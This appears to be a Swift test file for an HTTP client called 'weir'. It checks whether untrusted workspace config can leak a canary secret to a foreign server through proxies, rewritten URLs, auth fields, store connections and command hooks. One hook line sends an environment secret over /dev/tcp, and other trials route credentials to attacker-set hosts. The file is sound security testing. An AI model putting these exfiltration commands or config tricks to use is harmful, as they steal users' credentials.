import ClientWorkspace

/// The trials of each option.
extension UntrustedOptionTests {
  static func decidingTrials(_ world: World) -> [Trial] {
    let plain = "http://bank.test:\(world.stranger.port)"
    let secure = "https://localhost:\(world.tlsPort)"
    func option(_ key: String, _ value: String, at url: String, _ control: Control) -> Trial {
      Trial(
        part: "`options`", options: [key],
        files: gateway(url, "options: {\(key): \(value), attempts: 1}"),
        command: ["send", "-a", "joe:\(canary)", "\(url)/account"], control: control)
    }
    return [
      option("insecure", "true", at: secure, .reaches),
      option("cacert", "ca.pem", at: secure, .reaches),
      option("pins", "[other.pem]", at: secure, .none),
      option("cert", "other.pem", at: secure, .none),
      option("key", "other.key", at: secure, .none),
      option("proxy", world.strange, at: "http://bank.test", .reaches),
      option("unix-socket", world.unixStranger.path, at: "http://bank.test", .none),
      option("resolve", "['bank.test:\(world.stranger.port):127.0.0.1']", at: plain, .reaches),
      Trial(
        part: "a gateway and its methods", options: ["options", "cache"],
        files: gateway(
          "http://bank.test", "methods: {GET: {options: {proxy: \"\(world.strange)\"}, cache: {}}}"),
        command: ["send", "-a", "joe:\(canary)", "http://bank.test/account"], control: .reaches),
      Trial(
        part: "a gateway", options: ["extends"],
        files: [
          "weir.yaml": """
          gateway: g
          gateways:
            base: {options: {proxy: "\(world.strange)"}}
            g: {extends: base, url: "http://bank.test"}
          """
        ],
        command: ["send", "http://bank.test/account", "X-Api-Key:\(canary)"], control: .reaches),
      Trial(
        part: "a saved request", options: ["options"],
        files: [
          "requests/r.yaml": """
          url: http://bank.test/account
          headers: {X-Key: "{{password}}"}
          options: {proxy: "\(world.strange)"}
          """
        ],
        command: ["run", "r", "--var", "password=\(canary)"], control: .reaches),
    ]
  }

  static func addressTrials(_ world: World) -> [Trial] {
    let typed = ["send", "-a", "joe:\(canary)"]
    let strange = world.strange
    return [
      Trial(
        part: "a gateway", options: ["url", "methods", "lane", "outcome", "stubs", "paging"],
        files: gateway(
          strange,
          "methods: {GET: {query: {a: b}}}\n    lane: {limit: 1}\n    outcome: {success: {status: 2xx}}\n"
            + "    stubs: [{path: /a}]\n    paging: {page: {query: p}}"),
        command: typed + ["/account"], control: .reaches),
      Trial(
        part: "`weir.yaml`", options: ["servers", "gateways", "secrets"],
        files: [
          "weir.yaml":
            "servers: {s: \"\(strange)\"}\ngateways: {}\nsecrets: {plain: [X-Api-Key]}\n"
        ],
        command: ["send", "@s/account", "X-Api-Key:\(canary)"], control: .reaches),
      Trial(
        part: "an endpoint", options: ["server", "path", "gateway"],
        files: [
          "weir.yaml": "servers: {s: \"\(strange)\"}\nendpoints: {e: {server: s, path: /account}}\n"
        ],
        command: typed + ["@e"], control: .reaches),
      Trial(
        part: "`weir.yaml`", options: ["endpoints"],
        files: [
          "weir.yaml":
            "gateways: {g: {url: \"\(strange)\"}}\nendpoints: {e: {gateway: g, path: /account}}\n"
        ],
        command: ["send", "POST", "@e", "password=\(canary)"], control: .reaches),
      Trial(
        part: "`environments.yaml`", options: ["shared", "environments"],
        files: ["environments.yaml": "shared: {base: \"\(strange)\"}\nenvironments: {dev: {}}\n"],
        command: typed + ["{{base}}/account"], control: .reaches),
      Trial(
        part: "`folder.yaml`", options: ["variables"],
        files: [
          "requests/a/folder.yaml": "variables: {base: \"\(strange)\"}\n",
          "requests/a/r.yaml":
            "url: \"{{base}}/account\"\nheaders: {X-Key: \"{{password}}\"}\n",
        ],
        command: ["run", "a/r", "--var", "password=\(canary)"], control: .reaches),
      Trial(
        part: "`.env`", options: ["names"],
        files: [
          ".env": "PASSWORD=\(canary)\n",
          "requests/r.yaml": "url: \(strange)/account?p={{PASSWORD}}\n",
        ],
        command: ["run", "r"], control: .reaches),
      Trial(
        part: "`.env`", options: ["names"],
        files: [
          ".env": "PASSWORD=\(canary)\n",
          "weir.yaml": "secrets: {plain: [PASSWORD]}\n",
          "environments.yaml": "shared: {path: \"a{{PASSWORD}}\"}\n",
          "requests/a/folder.yaml": "headers: {X-Key: \"{{path}}\"}\n",
          "requests/a/r.yaml": "url: \(strange)/account\n",
        ],
        command: ["run", "a/r"], control: .reaches),
      Trial(
        part: "a saved request", options: ["url", "job", "endpoint"],
        files: ["requests/r.yaml": "url: \(strange)/account\nheaders: {X-Key: \"{{password}}\"}\n"],
        command: ["run", "r", "--var", "password=\(canary)"], control: .reaches),
      Trial(
        part: "a catalog",
        options: ["servers", "security", "x-weir-job", "x-weir-outcome", "x-weir-paging"],
        files: [
          "catalogs/shop.yaml": """
          openapi: 3.1.0
          info: {title: Shop, version: '1'}
          servers: [{url: "\(strange)"}]
          paths: {/account: {get: {operationId: account, responses: {'200': {description: ok}}}}}
          """
        ],
        command: typed + ["--endpoint", "shop#account"], control: .reaches),
      Trial(
        part: "`refresh`", options: ["request", "token"],
        files: gateway(
          "http://127.0.0.1:\(world.bank.port)",
          "outcome: {authentication: {status: 401}, refresh: {request: login, token: /t}}"
        ).merging(
          [
            "requests/login.yaml": "url: \(strange)/login\nheaders: {X-Key: \"{{password}}\"}\n"
          ], uniquingKeysWith: { first, _ in first }),
        command: [
          "send", "--check", "http://127.0.0.1:\(world.bank.port)/account", "--var",
          "password=\(canary)",
        ], control: .reaches),
      Trial(
        part: "`outcome`", options: ["refresh"],
        files: gateway(strange, "outcome: {refresh: {request: login}}"),
        command: typed + ["/account"]),
      Trial(
        part: "a graph", options: ["steps", "serial", "concurrent", "on-failure", "cache"],
        files: [
          "requests/r.yaml": "url: \(strange)/a\nheaders: {X-Key: \"{{password}}\"}\n",
          "graphs/g.yaml": "steps: {a: {request: r}}\n",
        ],
        command: ["run", "graphs/g", "--var", "password=\(canary)"], control: .reaches),
      Trial(
        part: "a step", options: ["request"],
        files: [
          "requests/r.yaml":
            "url: http://bank.test/a\noptions: {proxy: \"\(strange)\"}\nauth: {bearer: env:WEIR_CANARY}\n",
          "graphs/g.yaml": "serial: [r]\n",
        ],
        command: ["run", "graphs/g"], control: .reaches),
      Trial(
        part: "`mqtt`", options: ["host", "port", "tls", "user", "password"],
        files: gateway(
          "http://bank.test",
          "mqtt: {host: 127.0.0.1, port: \(world.stranger.port), tls: false, user: joe, password: env:WEIR_CANARY}"
        ),
        command: ["mqtt", "publish", "t", #"{"password":"\#(canary)"}"#]),
      Trial(
        part: "a gateway", options: ["mqtt"],
        files: gateway(
          "http://bank.test", "mqtt: {host: 127.0.0.1, port: \(world.stranger.port)}"),
        command: ["mqtt", "publish", "--auth", "basic:joe:env:WEIR_CANARY", "t", "x"]),
    ]
      + ["`job`", "an address of `job`", "`result` of `job`", "`cancel` of `job`"].map { part in
        Trial(
          part: part, options: UntrustedUse.all.filter { $0.part == part }.flatMap(\.options),
          files: [
            "requests/r.yaml": """
            url: http://127.0.0.1:\(world.bank.port)/account
            headers: {X-Api-Key: "{{password}}"}
            job: {accepted: {status: 401}, status: {template: "\(strange)/{id}"}, result: {in-poll: /r}, \
            cancel: {method: POST, at: {template: "\(strange)/{id}"}}}
            """
          ], command: ["run", "r", "--var", "password=\(canary)"])
      }
  }

  static func referenceTrials(_ world: World) -> [Trial] {
    let strange = world.strange
    func saved(_ part: String, _ options: [String], _ rest: String) -> Trial {
      Trial(
        part: part, options: options,
        files: ["requests/r.yaml": "method: POST\nurl: \(strange)/a\n\(rest)\n"],
        command: ["run", "r"], control: .reaches)
    }
    let fields = "[{name: password, value: env:WEIR_CANARY, secret: true}]"
    let schemes = UntrustedUse.all.filter { $0.part == "`auth`" }.flatMap(\.options)
    return [
      saved("`auth`", schemes, "auth: {bearer: env:WEIR_CANARY}"),
      saved("a saved request", ["auth"], "auth: {basic: {user: joe, password: env:WEIR_CANARY}}"),
      saved("a saved request", ["headers"], "headers: {X-Any: env:WEIR_CANARY}"),
      Trial(
        part: "`folder.yaml`", options: ["headers"],
        files: [
          "requests/a/folder.yaml": "headers: {X-Any: env:WEIR_CANARY}\n",
          "requests/a/r.yaml": "url: \(strange)/a\n",
        ],
        command: ["run", "a/r"], control: .reaches),
      saved("a saved request", ["query"], "query: \(fields)"),
      saved(
        "a field or part", ["name", "value", "off", "secret", "literal", "encoded"],
        "query: \(fields)"),
      saved("a saved request", ["body"], "body: {form: \(fields)}"),
      saved(
        "`body`", ["json", "text", "form", "multipart", "graphql", "type"],
        "body: {multipart: \(fields)}"),
      saved("`body` and its parts", ["file"], "body: {file: ../private.txt}"),
      Trial(
        part: "a gateway and its methods", options: ["headers"],
        files: gateway(strange, "headers: {X-Any: env:WEIR_CANARY}"), command: ["send", "/a"],
        control: .reaches),
      Trial(
        part: "a gateway and its methods", options: ["query"],
        files: gateway(strange, "query: \(fields)"), command: ["send", "/a"], control: .reaches),
      Trial(
        part: "a gateway", options: ["auth"],
        files: gateway(strange, "auth: {bearer: env:WEIR_CANARY}"), command: ["send", "/a"],
        control: .reaches),
    ]
  }

  /// The server of the store would get the name of the user.
  static func storeTrials(_ world: World) -> [Trial] {
    let server =
      "host=127.0.0.1 port=\(world.stranger.port) user=\(canary) sslmode=disable gssencmode=disable"
    let files = ["weir.yaml": "store: {postgres: \"\(server)\"}\n"]
    return [
      Trial(
        part: "`weir.yaml`", options: ["store"], files: files,
        command: ["queue", "add", "http://127.0.0.1:\(world.bank.port)/account"], control: .reaches),
      Trial(
        part: "`store`", options: ["postgres"], files: files, command: ["store", "status"],
        control: .reaches),
    ]
  }

  /// Each program would tell the stranger the password.
  static func programTrials(_ world: World) -> [Trial] {
    let program = "[sh, -c, \"printf %s $WEIR_CANARY > /dev/tcp/x 2>&-; echo $WEIR_CANARY > ran\"]"
    let typed = ["send", "-a", "joe:\(canary)", "http://127.0.0.1:\(world.bank.port)/account"]
    let bank = "http://127.0.0.1:\(world.bank.port)"
    return [
      Trial(
        part: "a stage, parser or stub", options: ["command", "deadline"],
        files: gateway(bank, "stubs: [{path: /account, command: \(program), deadline: 5}]"),
        command: typed + ["--stub"]),
      Trial(
        part: "`middleware`", options: ["submit", "dispatch", "response"],
        files: gateway(
          bank,
          "middleware: {submit: [{command: \(program)}], dispatch: [{command: \(program)}], "
            + "response: [{command: \(program)}]}"), command: typed),
      Trial(
        part: "a gateway", options: ["parsers", "middleware"],
        files: gateway(bank, "parsers: {text/plain: {command: \(program)}}"), command: typed),
      Trial(
        part: "a gateway", options: ["transform"],
        files: gateway(bank, "transform: {response: {command: \(program)}}"), command: typed),
      Trial(
        part: "`transform`", options: ["request", "response"],
        files: gateway(
          bank, "transform: {request: {command: \(program)}, response: {command: \(program)}}"),
        command: typed + ["pin=1"]),
      Trial(
        part: "`weir.yaml`", options: ["on_finish"],
        files: ["weir.yaml": "on_finish: {command: \(program), after: 0}\n"], command: typed),
      Trial(
        part: "`on_finish`", options: ["command"],
        files: ["weir.yaml": "on_finish: \(program)\n"], command: typed),
      Trial(
        part: "a step", options: ["command"],
        files: ["graphs/g.yaml": "steps: {a: {command: \(program)}}\n"],
        command: ["run", "graphs/g"]),
    ]
  }
}
